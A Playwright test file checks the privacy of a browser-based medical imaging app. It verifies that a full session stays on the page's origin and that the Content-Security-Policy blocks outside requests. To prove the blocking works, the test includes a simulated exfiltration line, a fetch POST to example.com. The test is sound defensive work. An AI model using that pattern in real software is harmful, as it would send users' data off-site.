/**
 * Privacy: a full session (load, drop a slice with its mask, infer, segment) sends nothing off the page's
 * origin, and the Content-Security-Policy (header and meta tag) would block it if anything tried.
 */
import { expect, test } from '@playwright/test';
import { TUMOR, dropFiles, fixture, openApp, setThreshold, waitForResult } from './helpers';

test('a full session makes no request outside the page origin, and the CSP blocks any attempt', async ({ page, context, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const requests: string[] = [];
  // Context-level events include the service worker's own fetches (precaching) and the inference worker's.
  context.on('request', (r) => requests.push(r.url()));
  await page.addInitScript(() => {
    (window as any).__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => (window as any).__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });

  const response = await page.goto('/');
  const header = response!.headers()['content-security-policy'];
  for (const directive of ["script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'", "worker-src 'self'", "default-src 'self'", "frame-ancestors 'none'"])
    expect(header).toContain(directive);
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toContain("connect-src 'self'");

  await openApp(page);
  await dropFiles(page, [fixture(`${TUMOR}.tif`), fixture(`${TUMOR}_mask.tif`)]);
  await waitForResult(page, `${TUMOR}.tif`);
  await setThreshold(page, 0);
  if (await page.getByTestId('segment-now').isVisible()) await page.getByTestId('segment-now').click();
  await expect(page.getByTestId('scores')).toBeVisible();
  const exportButton = page.getByRole('button', { name: /export|download|save/i });
  if (await exportButton.count()) await exportButton.first().click();
  await page.waitForTimeout(500);

  // The app itself broke no rule of its policy.
  expect(await page.evaluate(() => (window as any).__csp)).toEqual([]);

  const offOrigin = requests.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
  expect(offOrigin).toEqual([]);
  expect(requests.some((u) => u.includes('/models/classifier/'))).toBe(true);

  // If some code tried to send data away, the policy stops it before the network.
  const attempt = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/upload', { method: 'POST', body: 'slice' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(attempt).toBe('blocked');
  const violations: string[] = await page.evaluate(() => (window as any).__csp);
  expect(violations.length).toBeGreaterThan(0);
  for (const v of violations) expect(v).toMatch(/^connect-src https:\/\/example\.com/);
  expect(requests.filter((u) => u.includes('example.com'))).toEqual([]);
});
